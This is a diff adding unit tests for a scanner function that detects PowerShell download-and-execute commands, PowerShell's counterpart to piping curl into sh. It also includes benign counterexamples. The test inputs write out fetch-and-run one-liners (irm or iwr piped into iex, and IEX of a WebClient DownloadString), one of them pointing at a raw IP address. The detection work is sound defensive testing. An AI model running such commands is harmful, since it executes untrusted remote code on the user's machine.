@@ -42,3 +42,20 @@ describe('obfuscator output: javascript-obfuscator names', () => {
     expect(scanAddedCode('src/emu.ts', added('const _0x1000 = 1, _0x2000 = 2, _0x3000 = 3;'))).toEqual([]);
   });
 });
+
+describe("PowerShell's download and run (Windows' curl | sh)", () => {
+  it('reads a download piped into Invoke-Expression and Invoke-Expression of a download, in any case', () => {
+    expect(findPipeToShell('irm https://get.example.dev/install.ps1 | iex')).toEqual(['irm https://get.example.dev/install.ps1 | iex']);
+    expect(findPipeToShell('iwr -useb https://x.example/a.ps1 | Invoke-Expression')).toEqual(['iwr -useb https://x.example/a.ps1 | Invoke-Expression']);
+    expect(findPipeToShell("IEX (New-Object Net.WebClient).DownloadString('http://45.77.12.9/a.ps1')")).toHaveLength(1);
+    expect(findPipeToShell("iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")).toHaveLength(1);
+    expect(findPipeToShell('Invoke-Expression (Invoke-RestMethod https://x.example/p.ps1)')).toHaveLength(1);
+    expect(findPipeToShell("(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex")).toHaveLength(1);
+  });
+  it('leaves a download saved to a file, Invoke-Expression of local text and Elixir\'s iex alone', () => {
+    expect(findPipeToShell('Invoke-WebRequest -Uri $url -OutFile tool.zip; Expand-Archive tool.zip -DestinationPath bin')).toEqual([]);
+    expect(findPipeToShell('iex (Get-Content .\\env.ps1 -Raw)')).toEqual([]);
+    expect(findPipeToShell('iex -S mix phx.server')).toEqual([]);
+    expect(findPipeToShell('$r = irm https://api.example.com/v1/status | ConvertTo-Json')).toEqual([]);
+  });
+});
